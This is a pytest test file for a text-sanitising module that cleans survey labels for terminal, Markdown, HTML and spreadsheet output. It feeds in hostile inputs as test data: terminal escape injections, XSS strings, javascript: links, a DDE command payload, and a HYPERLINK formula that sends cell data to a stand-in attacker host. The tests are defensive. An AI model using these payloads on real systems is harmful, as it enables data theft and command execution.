"""pewlike.textsafe: each sanitiser on hostile text, and ordinary labels left exactly as they are."""

from __future__ import annotations

import math

import pytest

from pewlike.textsafe import (
    formula_like,
    html_text,
    markdown_target,
    markdown_text,
    plain_text,
    spreadsheet_cell,
    terminal_text,
)

# Labels as they occur in real surveys (and the demo): none may change anywhere.
ORDINARY = [
    "Very concerned",
    "Don't know/Refused",
    "<$30,000 (A)",
    "$30,000-$74,999",
    "p < .001",
    "<1",
    ">99",
    "-",
    "-0.53",
    "F_AGECAT30-49",
    "concern_logit",
    "Model: CONCERNCO in ['Very concerned', 'Somewhat concerned'] ~ F_AGECAT + F_SEX",
    "Née à Montréal ± 2 中文",
    "Rep/Lean Rep",
    "Age category: Rao-Scott F(8.20, 34467.7) = 5.55, p < .001.",
]


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_labels_are_unchanged_everywhere(text):
    assert plain_text(text) == text
    assert terminal_text(text) == text
    assert markdown_text(text) == text
    assert spreadsheet_cell(text) == text


@pytest.mark.parametrize(
    ("raw", "clean"),
    [
        ("a\x1b]0;pwned\x07b", "ab"),  # OSC 0: window title, BEL-terminated
        ("a\x1b]0;pwned\x1b\\b", "ab"),  # ... ST-terminated
        ("\x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\", "link"),  # OSC 8 hyperlink: its text stays
        ("\x1b[31;1mred\x1b[0m", "red"),  # CSI colours
        ("\x9b31mred", "red"),  # 8-bit CSI
        ("\x9d0;pwned\x9c!", "!"),  # 8-bit OSC and ST
        ("\x1bcreset", "reset"),  # ESC c (full reset) is two characters
        ("\x1bPq#0;2\x1b\\x", "x"),  # DCS (sixel) string
        ("a\x1b]0;no terminator", "a0;no terminator"),  # unterminated: the introducer goes, the text stays
        ("safe\rEVIL", "safe\nEVIL"),  # a carriage return cannot overwrite
        ("a\r\nb", "a\nb"),
        ("tab\tand\nnewline", "tab\tand\nnewline"),
        ("".join(chr(i) for i in range(32)) + "x", "\t\n\nx"),  # C0: tab, newline, CR->newline kept
        ("del\x7f c1\x80\x85\x9f end", "del c1 end"),
        ("lone\ud800\udfff surrogates", "lone surrogates"),
        ("non\ufffe\uffffchars", "nonchars"),
        ("bs\x08\x08\x08bell\x07", "bsbell"),
        (42, "42"),
    ],
)
def test_plain_text(raw, clean):
    assert plain_text(raw) == clean


def test_terminal_text_removes_bidirectional_overrides():
    assert terminal_text("abc\u202edcb\u202c ok\u2066x\u2069") == "abcdcb okx"
    assert terminal_text("\x1b]8;;http://evil\x1b\\click\x1b]8;;\x1b\\\x08") == "click"
    assert terminal_text("עברית ✓") == "עברית ✓"


@pytest.mark.parametrize(
    ("raw", "escaped"),
    [
        ("<script>alert(1)</script>", "&lt;script>alert(1)&lt;/script>"),
        ("<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)>"),
        ("<svg onload=alert(1)>", "&lt;svg onload=alert(1)>"),
        ("<!-- c --> <?php ?> <![CDATA[x]]>", "&lt;!-- c --> &lt;?php ?> &lt;![CDATA[x]]>"),
        ("<http://evil.example>", "&lt;http://evil.example>"),  # URI autolink
        ("<$me@evil.example>", "&lt;$me@evil.example>"),  # e-mail autolink
        ("[x](javascript:alert(1))", "[x\\](javascript:alert(1))"),
        ("![i](http://evil/p.png)", "![i\\](http://evil/p.png)"),
        ("[x][ref] and [ref]: javascript:alert(1)", "[x\\][ref] and [ref\\]: javascript:alert(1)"),
        ("[^1]", "[^1\\]"),
        ("line1\nline2\r\n# heading\u2028x\ty", "line1 line2 \\# heading x y"),
        ("*em* **strong** `code` a|b", "\\*em\\* \\*\\*strong\\*\\* \\`code\\` a\\|b"),
        ("_em_ __strong__ F_SEX", "\\_em\\_ \\_\\_strong\\_\\_ F_SEX"),
        ("~~struck~~ y ~ x", "\\~\\~struck\\~\\~ y ~ x"),
        ("R&D &lt;b&gt;", "R&amp;D &amp;lt;b&amp;gt;"),
        ("back\\slash\\", "back\\\\slash\\\\"),
        ("\x1b]0;pwned\x07Title\x00", "Title"),
    ],
)
def test_markdown_text(raw, escaped):
    assert markdown_text(raw) == escaped


def test_markdown_link_text_escapes_every_bracket():
    assert markdown_text("a [b] c", link_text=True) == "a \\[b\\] c"
    assert markdown_text("x](javascript:alert(1)) [y", link_text=True) == "x\\](javascript:alert(1)) \\[y"


def test_markdown_target_is_a_relative_path_only():
    assert markdown_target("tables/topline_Q1-a.csv") == "tables/topline_Q1-a.csv"
    assert markdown_target("javascript:alert(1)//x.csv") == "javascript%3Aalert%281%29//x.csv"
    assert markdown_target("my tables/x).csv") == "my%20tables/x%29.csv"
    assert markdown_target("a\x1b]0;t\x07b") == "ab"


def test_html_text():
    assert html_text("<b class='x'>\"&\"</b>\x07\x1b[2J") == "&lt;b class=&#x27;x&#x27;&gt;&quot;&amp;&quot;&lt;/b&gt;"


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?d="&B5,"Click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\t=cmd",
        "\r=cmd",
        "  =HYPERLINK(1)",  # an indented answer under its net
        "\n@SUM(1)",
        "-1.2 - 3.4",  # Excel computes it
        "=",
        "+",
        "@",
    ],
)
def test_formula_like_cells(text):
    assert formula_like(text)
    assert spreadsheet_cell(text) == "'" + plain_text(text)
    assert spreadsheet_cell(text, formula_guard=False) == plain_text(text)


@pytest.mark.parametrize("text", ["-", "-0.53", "+1", "-1,234.5", "-12%", "-1e-05", ".5", "Yes", "  -", " -0.5", "'=1"])
def test_numbers_and_text_are_not_formulas(text):
    assert not formula_like(text)
    assert spreadsheet_cell(text) == text


def test_spreadsheet_cell_leaves_non_text_alone():
    assert spreadsheet_cell(-0.5) == -0.5
    assert spreadsheet_cell(-3) == -3
    assert spreadsheet_cell(None) is None
    assert math.isnan(spreadsheet_cell(float("nan")))
    assert spreadsheet_cell("=1\x00+1\x1b[2J") == "'=1+1"


def test_plain_text_of_a_page_with_lines_and_tabs_keeps_or_cleans_it_whole() -> None:
    page = "<p>Very concerned</p>\n\t<p>Müller 😀</p>\n" * 2000
    assert plain_text(page) is page  # nothing to remove: the page itself, not a copy
    dirty = page + "\x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\\r\n\x00end\u00a0"
    assert plain_text(dirty) == page + "link\nend\u00a0"  # escapes and controls removed, CR LF a newline
